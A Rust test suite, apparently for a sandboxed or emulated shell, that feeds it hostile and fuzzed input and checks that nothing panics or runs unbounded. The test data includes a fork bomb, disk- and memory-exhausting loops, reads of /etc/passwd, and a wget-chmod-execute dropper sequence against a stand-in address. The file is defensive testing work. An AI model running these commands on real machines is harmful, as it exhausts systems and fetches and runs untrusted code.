//! Hostile input: nothing panics, everything is bounded, on the stack that a worker
//! thread has.

use crate::driver::{Driver, START, elf, host, login};
use proptest::prelude::*;
use std::sync::Arc;
use std::time::{Duration, Instant};
use ukai_shell::{Console, Fs, Shell, ShellEffect, ShellState, TerminalSize, limits, needs_more};

/// Stack of a worker thread of the usual runtime.
const STACK_BYTES: usize = 2 << 20;

/// Longest that one hostile input may take, unoptimised, on a busy machine.
const TIME_MAX: Duration = Duration::from_secs(20);

/// Runs `test` on a stack as small as a worker's.
fn on_a_small_stack(test: impl FnOnce() + Send + 'static) {
    let thread = std::thread::Builder::new().stack_size(STACK_BYTES).spawn(test);
    thread.expect("a thread").join().expect("no panic, no overflow");
}

fn run(persona: &str, text: &[u8], terminal: bool) -> Driver {
    let host = host(persona);
    let mut driver = Driver::new(&host, &Fs::new(&host), "root", terminal);
    let began = Instant::now();
    driver.run(text);
    assert!(began.elapsed() < TIME_MAX, "took {:?}", began.elapsed());
    driver
}

#[test]
fn deep_nesting_is_refused_and_not_followed() {
    on_a_small_stack(|| {
        for depth in [10, 40, 60, 1_000, 50_000] {
            for (open, middle, close) in [
                ("$(", ":", ")"),
                ("(", ":", ")"),
                ("((", "1", "))"),
                ("{ ", ":", "; }"),
                ("if :; then ", ":", "; fi"),
                ("while ", ":", "; do break; done"),
                ("case a in a) ", ":", ";; esac"),
                ("for i in 1; do ", ":", "; done"),
                ("${a:-", "x", "}"),
                ("\"$(", ":", ")\""),
                ("$((", "1", "))"),
                ("f() ", "{ :; }", ""),
                ("! ", ":", ""),
                ("x=(", "", ")"),
                ("sh -c '", "", "'"),
                ("eval ", ":", ""),
                ("[ ! ", "x", " ]"),
            ] {
                let whole = format!("{}{middle}{}\n", open.repeat(depth), close.repeat(depth));
                let half = format!("{}\n", open.repeat(depth));
                for text in [whole, half] {
                    for persona in ["router-mips", "server-debian"] {
                        run(persona, text.as_bytes(), false);
                        needs_more(text.as_bytes());
                    }
                }
            }
        }
    });
}

#[test]
fn deep_running_is_cut() {
    on_a_small_stack(|| {
        for text in [
            "f() { f; }; f",
            "f() { (f); }; f",
            "f() { x=$(f); }; f",
            "f() { eval f; }; f",
            "f() { if f; then :; fi; }; f",
            "f() { f | f; }; f",
            "echo 'sh x' > /tmp/x; cd /tmp; sh x",
            "echo '. ./x' > /tmp/x; cd /tmp; . ./x",
            "alias a='b'; alias b='a'; a",
            "a() { busybox sh -c 'a'; }; a",
            "trap 'exit' EXIT; exit",
            "x='x+1'; echo $((x))",
            "a=b; b=a; echo $((a))",
            "awk 'BEGIN { while (1) i++ }'",
            "awk 'function f(n) { return f(n + 1) + f(n) } BEGIN { f(1) }'",
            "awk 'function f(a) { a[length(a)] = a[0]; f(a) } BEGIN { f(x) }'",
            "awk 'BEGIN { while (1) print i++ > i }'",
            "awk 'BEGIN { while (1) { \"echo \" i++ | getline x } }'",
            "awk 'BEGIN { while (1) print \"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\" | \"cat\" }'",
            "awk 'BEGIN { system(\"awk \\047BEGIN { system(1) }\\047\"); while (1) system(\"true\") }'",
            "yes | awk '{ print | \"sh\" }'",
            "yes | awk -v RS= '{ print NR }'",
            "awk 'BEGIN { while (1) s = s \"xxxxxxxxxxxxxxxx\" }'",
            "echo aaaaaaaa | sed ':a; s/a/aa/; ta'",
            "ln -s /tmp/l /tmp/l; cat /tmp/l; cd /tmp; ln -s . d; ls d/d/d/d/d; find . ",
            "cd /tmp; while mkdir d; do cd d; done; ls -R /tmp | tail -1; rm -rf /tmp/d",
            "cd /tmp; i=0; while :; do echo x > f$i; i=$((i+1)); done",
            "find / -exec find / \\;",
            "while :; do sh -c 'while :; do :; done' & done",
            ":(){ :|:& };:",
            "yes | xargs echo | xargs -n1 echo",
            "seq 1 1e18; seq 1 0.0000001 2 | tail -1",
            "printf '%9999999d' 1 | wc -c; printf '%*d' 999999999 1 | wc -c",
            "echo {1..9999999} | wc -c; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} | wc -w",
            "x=$(head -c 200000 /dev/urandom | base64); echo ${x//a*b*c*d/y} | wc -c",
            "x=$(yes a | head -c 100000); case $x in *a*a*a*a*a*a*b) ;; esac",
            "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a|aa)+(a|aa)+(a|aa)+b'; echo $?",
            "cat /dev/urandom | cat | wc -c; cat /dev/zero > /tmp/z; cat /tmp/z /tmp/z > /tmp/y",
            "dd if=/dev/zero of=/tmp/x bs=1 seek=99999999999999 count=1",
            "tail -n 99999999999999999999 /etc/passwd; head -c 99999999999999999999 /etc/passwd >/dev/null",
        ] {
            for persona in ["router-mips", "server-debian"] {
                for terminal in [false, true] {
                    run(persona, format!("{text}\n").as_bytes(), terminal);
                }
            }
        }
    });
}

#[test]
fn work_on_much_data_is_charged() {
    on_a_small_stack(|| {
        let much = |unit: &str, count: usize| unit.repeat(count);
        for text in [
            // Sets without an end behind a star.
            format!("x={}; case $x in *{}b) ;; esac", much("[", 10_000), much("[", 9_000)),
            format!("x={}; case $x in *{}b) ;; esac", much("[", 4_000), much("[[:", 1_000)),
            format!("x={}; while :; do : ${{x//*a*b/c}}; done", much("a", 300)),
            format!("IFS={}; x={}; while :; do : $x; done", much("ab", 9_000), much("c", 9_000)),
            "set -- $(seq 1 8000); while :; do : \"$@\"; done".to_owned(),
            "x=($(seq 1 8000)); while :; do : ${!x[@]}; done".to_owned(),
            format!("x={}; while :; do : $x; done", much("a", 200_000)),
            format!("while :; do kill -0 {}; done", much("1 ", 4_000)),
            format!("while :; do export {}; done", much("a=b ", 4_000)),
            format!("while :; do printf '{}' >/dev/null; done", much("%s", 30_000)),
            format!("while :; do : {}; done", much("> /dev/null ", 2_000)),
            "dd if=/dev/zero of=/tmp/f bs=1M count=15; while :; do echo a >> /tmp/f; done"
                .to_owned(),
            "while :; do dd if=/dev/zero of=/tmp/f bs=1 seek=15000000 count=1; done".to_owned(),
        ] {
            for persona in ["router-mips", "server-debian"] {
                run(persona, text.as_bytes(), false);
            }
        }
    });
}

#[test]
fn what_would_fill_the_memory_is_refused() {
    on_a_small_stack(|| {
        let much = |unit: &str, count: usize| unit.repeat(count);
        for text in [
            format!("echo {}{{1..8000}}", much("a", 60_000)),
            format!("echo {{1..8000}}{}", much("a", 60_000)),
            format!("x={}; : {}", much("a", 200_000), much("\"$x\" ", 8_000)),
            format!("set -- $(seq 1 8000); x={}; : ${{@/*/$x}}", much("a", 200_000)),
            format!("x='{}'; while :; do eval \"f$RANDOM() {{ $x }}\"; done", much(":;", 50_000)),
            format!("echo a | sed ':a;i\\{}\nba'", much("a", 200_000)),
            "awk 'BEGIN{x=sprintf(\"%4000d\",1);gsub(/ /,x,x);gsub(/ /,x,x)}'".to_owned(),
        ] {
            for persona in ["router-mips", "server-debian"] {
                run(persona, text.as_bytes(), false);
            }
        }
    });
}

#[test]
fn long_chains_of_operators_do_not_nest() {
    on_a_small_stack(|| {
        let much = |unit: &str| unit.repeat(50_000);
        for (text, printed) in [
            (format!("awk 'BEGIN{{x={}1; print x}}'", much("1+")), "50001\n"),
            (format!("awk 'BEGIN{{x={}; print length(x)}}'", much("\"a\" ")), "50000\n"),
            (format!("awk 'BEGIN{{x={}1}}'", much("1 in a in ")), ""),
            (much("function f "), ""),
        ] {
            let driver = run("server-debian", text.as_bytes(), false);
            let output = String::from_utf8_lossy(&driver.output);
            assert!(output.contains(printed), "{output}");
        }
    });
}

#[test]
fn long_texts_take_linear_time() {
    on_a_small_stack(|| {
        let long = |unit: &str| unit.repeat(limits::SCRIPT_BYTES / unit.len());
        for text in [
            long("a"),
            long("echo a\n"),
            long("a "),
            long("'"),
            long("\\"),
            long("$"),
            long("`"),
            long("a=b;"),
            long("<<a\n"),
            long("#\n"),
            long("${"),
            long("|"),
            long("\u{0}"),
            format!("echo {}", long("*/")),
            format!("echo {}", long("{a,")),
            format!("echo {}", long("[")),
            format!("echo $(({}))", long("1+")),
            format!("[ {} ]", long("! ")),
            format!("cat <<E\n{}", long("x\n")),
        ] {
            run("router-mips", text.as_bytes(), false);
            run("server-debian", text.as_bytes(), false);
        }
    });
}

#[test]
fn unfinished_lines_on_a_terminal_are_bounded() {
    let host = host("router-mips");
    let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
    let began = Instant::now();
    driver.run(b"cat <<E\n");
    for _ in 0..limits::CONTINUATION_LINES + 10 {
        driver.run(b"x\n");
    }
    assert!(began.elapsed() < TIME_MAX);
    assert_eq!(driver.shell.state(), ShellState::Ready);
}

#[test]
fn a_terminal_shows_what_is_typed_and_stops_on_control_c() {
    let host = host("router-mips");
    let shell = Shell::new(Arc::clone(&host), Fs::new(&host), login("root", true), 1, START);
    let mut console = Console::new(shell, true);
    let mut out = Vec::new();
    console.start(START, &mut out);
    console.on_bytes(b"echo hxx\x7f\x7fi\r\0echo two\r\nsleep 100\necho never", START, &mut out);
    console.on_bytes(b"\x03echo after; exit 4\n", START, &mut out);
    let text: Vec<u8> = out
        .iter()
        .filter_map(
            |e| if let ShellEffect::Output(bytes) = e { Some(bytes.to_vec()) } else { None },
        )
        .flatten()
        .collect();
    let text = String::from_utf8(text).expect("plain text");
    let end = text.split_once("(ash)").expect("the greeting").1;
    assert_eq!(
        end,
        "\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# echo hxx\x08 \x08\x08 \x08i\r\nhi\r\n\
         # echo two\r\ntwo\r\n# sleep 100\r\n^C\r\n# echo after; exit 4\r\nafter\r\n"
    );
    assert_eq!(console.exited(), Some(4));
}

#[test]
fn an_attackers_files_do_not_reach_another() {
    let host = host("router-mips");
    let mut first = Driver::new(&host, &Fs::new(&host), "root", true);
    first.run(b"echo mine > /tmp/f; rm /tmp/../bin/ls; cat /tmp/f\n");
    assert_eq!(first.output, b"rm: can't remove '/tmp/../bin/ls': Read-only file system\nmine\n");
    let mut second = Driver::new(&host, &Fs::new(&host), "root", true);
    second.run(b"cat /tmp/f\n");
    assert_eq!(second.output, b"cat: can't open '/tmp/f': No such file or directory\n");
}

/// Pieces of which scripts are made, so that random ones get somewhere.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("echo ".to_owned()),
        Just("$x ".to_owned()),
        Just("${x:-".to_owned()),
        Just("$(".to_owned()),
        Just("$((".to_owned()),
        Just("))".to_owned()),
        Just(") ".to_owned()),
        Just("}".to_owned()),
        Just("`".to_owned()),
        Just("'".to_owned()),
        Just("\"".to_owned()),
        Just("; ".to_owned()),
        Just(" | ".to_owned()),
        Just(" & ".to_owned()),
        Just(" && ".to_owned()),
        Just("\n".to_owned()),
        Just("if ".to_owned()),
        Just("then ".to_owned()),
        Just("fi ".to_owned()),
        Just("for i in ".to_owned()),
        Just("do ".to_owned()),
        Just("done ".to_owned()),
        Just("while ".to_owned()),
        Just("case x in ".to_owned()),
        Just("esac ".to_owned()),
        Just("<<E\n".to_owned()),
        Just("E\n".to_owned()),
        Just("> /tmp/f ".to_owned()),
        Just("2>&1 ".to_owned()),
        Just("f() { ".to_owned()),
        Just("} ".to_owned()),
        Just("x=".to_owned()),
        Just("[ -f ".to_owned()),
        Just(" ]".to_owned()),
        Just("*".to_owned()),
        Just("/proc/[0-9]*/exe ".to_owned()),
        Just("sed s/a/b/ ".to_owned()),
        Just("awk '{print $1}' ".to_owned()),
        Just("grep -E '(a|b)*' ".to_owned()),
        Just("cat ".to_owned()),
        Just("wget http://192.0.2.1/x.mips -O /tmp/m ".to_owned()),
        Just("chmod 777 /tmp/m ".to_owned()),
        Just("/tmp/m ".to_owned()),
        Just("sh ".to_owned()),
        Just("eval ".to_owned()),
        Just("dd bs=52 count=1 if=/bin/echo ".to_owned()),
        Just("busybox ".to_owned()),
        Just("find /tmp ".to_owned()),
        Just("tar xf ".to_owned()),
        Just("printf '%s' ".to_owned()),
        "[ -~]{0,6}",
    ]
}

/// Keys that line editors know, and bytes that they do not.
fn keys() -> impl Strategy<Value = Vec<u8>> {
    const KNOWN: &[&[u8]] = &[
        b"\x1b[A",
        b"\x1b[B",
        b"\x1b[C",
        b"\x1b[D",
        b"\x1b[H",
        b"\x1b[F",
        b"\x1b[3~",
        b"\x1bOA",
        b"\x1b[1;5C",
        b"\x1b[200~",
        b"\x1b[201~",
        b"\x1bb",
        b"\x1bf",
        b"\x1bd",
        b"\x1b\x7f",
        b"\x1b.",
        b"\x1b5",
        b"\x1b-",
        b"\x1b999999999",
        b"\x1bt",
        b"\x1bu",
        b"\x1b<",
        b"\x1b",
        b"\x1b[",
        b"\x1b[999999999999;1~",
        b"\x01",
        b"\x02",
        b"\x03",
        b"\x04",
        b"\x05",
        b"\x06",
        b"\x07",
        b"\x08",
        b"\t",
        b"\t\t",
        b"\x0b",
        b"\x0c",
        b"\x0e",
        b"\x10",
        b"\x12",
        b"\x13",
        b"\x14",
        b"\x15",
        b"\x16",
        b"\x17",
        b"\x18\x15",
        b"\x19",
        b"\x1a",
        b"\x1f",
        b"\x7f",
        b"\r",
        b"\n",
        b"\r\n",
        b"\0",
        b"\xc3",
        b"\xc3\xa9",
        b"\xf0\x9f\x98\x80",
        b"\xe6\xbc\xa2",
        b"\xff",
        b"echo ",
        b"cat /etc/p",
        b"!!",
        b"!e",
        b"'",
        b"\"",
        b"$(",
        b"| ",
        b"; ",
        b"cd /t",
    ];
    prop_oneof![
        6 => (0..KNOWN.len()).prop_map(|index| KNOWN[index].to_vec()),
        2 => prop::collection::vec(any::<u8>(), 0..12),
        1 => (any::<u8>(), 1_usize..300).prop_map(|(byte, count)| vec![byte; count]),
    ]
}

/// Most that a console may send in a session, in bytes: what commands print, the echo of
/// the line discipline, and what editors draw.
const DRAWN_MAX: usize = limits::OUTPUT_BYTES_PER_SESSION + limits::DRAWN_BYTES_PER_SESSION;

fn printed(effects: &[ShellEffect]) -> usize {
    let bytes = effects.iter().map(|effect| match effect {
        ShellEffect::Output(bytes) | ShellEffect::ErrorOutput(bytes) => bytes.len(),
        _ => 0,
    });
    bytes.sum()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn any_script_ends(pieces in prop::collection::vec(piece(), 0..40), bash: bool, terminal: bool) {
        let text = pieces.concat();
        run(if bash { "server-debian" } else { "router-mips" }, text.as_bytes(), terminal);
    }

    #[test]
    fn any_bytes_end(bytes: Vec<u8>, terminal: bool) {
        needs_more(&bytes);
        run("camera-arm", &bytes, terminal);
    }

    #[test]
    fn any_key_strokes_end(
        pieces in prop::collection::vec(keys(), 0..60),
        cuts in prop::collection::vec(1_usize..24, 1..40),
        columns in 0_u16..200,
        bash: bool,
        echo: bool,
    ) {
        let typed = pieces.concat();
        let host = host(if bash { "server-debian" } else { "router-mips" });
        let shell = Shell::new(Arc::clone(&host), Fs::new(&host), login("root", true), 1, START);
        let mut console = Console::new(shell, echo);
        let mut out = Vec::new();
        console.start(START, &mut out);
        let mut rest = &typed[..];
        for (index, cut) in cuts.iter().cycle().enumerate() {
            if rest.is_empty() {
                break;
            }
            let (piece, after) = rest.split_at((*cut).min(rest.len()));
            rest = after;
            console.on_bytes(piece, START, &mut out);
            if index % 7 == 3 {
                console.resize(TerminalSize { columns, rows: 24 });
            }
        }
        console.finish(&mut out);
        prop_assert!(printed(&out) <= DRAWN_MAX, "{} bytes", printed(&out));
    }

    #[test]
    fn commands_take_any_arguments(name in 0..COMMANDS.len(), arguments in prop::collection::vec(argument(), 0..5), input in any::<Vec<u8>>()) {
        let host = host("server-debian");
        let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
        let quoted: Vec<String> = arguments.iter().map(|a| format!("'{}'", a.replace('\'', "x"))).collect();
        driver.run(format!("{} {}\n", COMMANDS[name], quoted.join(" ")).as_bytes());
        if matches!(driver.shell.state(), ShellState::Waiting(_)) {
            driver.feed(&input);
            driver.end_input();
        }
    }

    #[test]
    fn small_languages_end(pieces in prop::collection::vec(token(), 0..24), which in 0..6_usize) {
        let host = host("server-debian");
        let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
        let program = pieces.concat().replace('\'', "");
        let command = ["awk", "sed", "grep -E", "expr", "printf", "find /tmp"][which];
        let began = Instant::now();
        driver.run(format!("printf 'a b 1\\nc d 2\\n' | {command} '{program}'\n").as_bytes());
        assert!(began.elapsed() < TIME_MAX);
    }

    #[test]
    fn any_file_can_be_started_and_unpacked(bytes: Vec<u8>, head in 0..4_usize) {
        let host = host("router-mips");
        let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
        let head = match head {
            0 => elf("x.mips").unwrap_or_default(),
            1 => b"#!/bin/sh\n".to_vec(),
            2 => vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0],
            _ => Vec::new(),
        };
        driver.served.insert("http://192.0.2.1/f".to_owned(), [head, bytes].concat());
        driver.run(b"cd /tmp; wget -q http://192.0.2.1/f; chmod +x f; ./f; sh f; gunzip -c f; tar tf f; tar xzf f; unzip f\n");
    }
}

/// Pieces of which programs of `awk`, `sed` and regular expressions are made.
fn token() -> impl Strategy<Value = String> {
    let tokens = [
        "BEGIN",
        "END",
        "{",
        "}",
        "print ",
        "printf ",
        "$1",
        "$0",
        "NF",
        "NR",
        "(",
        ")",
        "[",
        "]",
        ";",
        ",",
        "\n",
        "if(",
        "while(",
        "for(",
        "i++",
        "--i",
        "i=",
        "+=",
        "==",
        "~",
        "!~",
        "/a/",
        "\"x\"",
        "1",
        "0",
        "%d",
        "%s",
        "length",
        "substr(",
        "split(",
        "gsub(",
        "in ",
        "a[i]",
        "?",
        ":",
        "s/a/b/",
        "g",
        "p",
        "d",
        "N",
        "D",
        "$!N",
        "b",
        "t",
        ":a",
        "y/ab/cd/",
        "a\\",
        "\\(",
        "\\)",
        "\\1",
        "*",
        "+",
        "|",
        "^",
        "$",
        ".",
        "[[:alpha:]]",
        "{2,3}",
        "&",
        "!",
        "getline",
        "next",
        "exit",
        "delete ",
        "do ",
        "else ",
        " ",
        "%*d",
        "%-5.3s",
        "^2",
        "**",
    ];
    prop::sample::select(tokens.map(str::to_owned).to_vec())
}

/// An argument: printable, any text, or what options and expressions are made of.
fn argument() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ -~]{0,12}",
        "\\PC{0,6}",
        "-[a-zA-Z0-9]{1,3}",
        "[-+]?[0-9]{1,20}[kMs]?",
        r"[\]\[(){}*+?.^$|\\/a&,;0-9]{1,10}",
        "/(proc|tmp|dev|etc)/[a-z]{0,8}",
        "[a-z]{2,6}=[0-9a-z/]{0,12}",
    ]
}

/// Commands that get random arguments.
const COMMANDS: [&str; 64] = [
    "cat", "head", "tail", "wc", "tee", "cp", "mv", "rm", "mkdir", "rmdir", "touch", "ln", "chmod",
    "chown", "ls", "stat", "dd", "grep", "sed", "awk", "cut", "tr", "sort", "uniq", "xargs",
    "find", "od", "hexdump", "xxd", "base64", "md5sum", "seq", "expr", "basename", "dirname",
    "readlink", "df", "du", "free", "ps", "top", "kill", "pkill", "uname", "id", "date", "sleep",
    "mount", "ifconfig", "ip", "netstat", "ping", "wget", "curl", "tftp", "nc", "crontab", "tar",
    "gzip", "printf", "test", "read", "set", "trap",
];

#[test]
fn a_mistake_in_brackets_ends_the_choice_around_them() {
    for persona in ["router-mips", "server-debian"] {
        let driver = run(persona, b"echo $((1 ? (+) : 2))\n", false);
        let output = String::from_utf8_lossy(&driver.output);
        assert!(output.contains("syntax error"), "{output}");
    }
}
